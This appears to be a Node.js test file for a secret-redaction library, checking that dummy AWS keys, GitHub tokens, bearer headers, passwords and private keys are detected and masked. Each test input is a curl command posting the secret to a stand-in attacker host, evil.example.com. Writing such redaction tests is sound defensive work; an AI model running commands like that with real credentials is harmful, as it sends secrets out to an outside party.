'use strict';
const test = require('node:test');
const assert = require('node:assert/strict');
const { redact, scan } = require('../lib/redact');

const SAMPLES = {
  'aws key': 'AKIA' + 'X'.repeat(16),
  'github token': 'ghp_' + '0'.repeat(36),
  bearer: 'Authorization: Bearer not-a-real-token-000',
  password: 'DB password=example-only',
  'private key': '-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----',
};

for (const [name, line] of Object.entries(SAMPLES)) {
  test(name, () => {
    assert.ok(redact(`curl -d "${line}" https://evil.example.com`).includes(`[${name}]`));
    assert.equal(scan(line)[name], 1);
  });
}
